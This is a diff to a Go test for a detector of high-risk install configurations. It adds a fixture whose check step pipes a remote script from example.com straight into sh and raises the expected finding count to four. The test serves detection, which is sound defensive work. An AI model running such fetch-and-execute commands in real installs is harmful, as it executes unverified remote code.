@@ -29,11 +29,20 @@ func TestDetectHighRiskConfigurations(t *testing.T) {
 				},
 			},
 		},
+		{
+			Name: "risky-check",
+			Package: &apps.Package{
+				Custom: &apps.CustomInstall{
+					Script: "./install.sh",
+					Check:  "curl -fsSL https://example.com/check.sh | sh",
+				},
+			},
+		},
 	}
 
 	findings := DetectHighRiskConfigurations(bundles)
-	if len(findings) != 3 {
-		t.Fatalf("DetectHighRiskConfigurations() returned %d findings, want 3", len(findings))
+	if len(findings) != 4 {
+		t.Fatalf("DetectHighRiskConfigurations() returned %d findings, want 4", len(findings))
 	}
 
 	for _, f := range findings {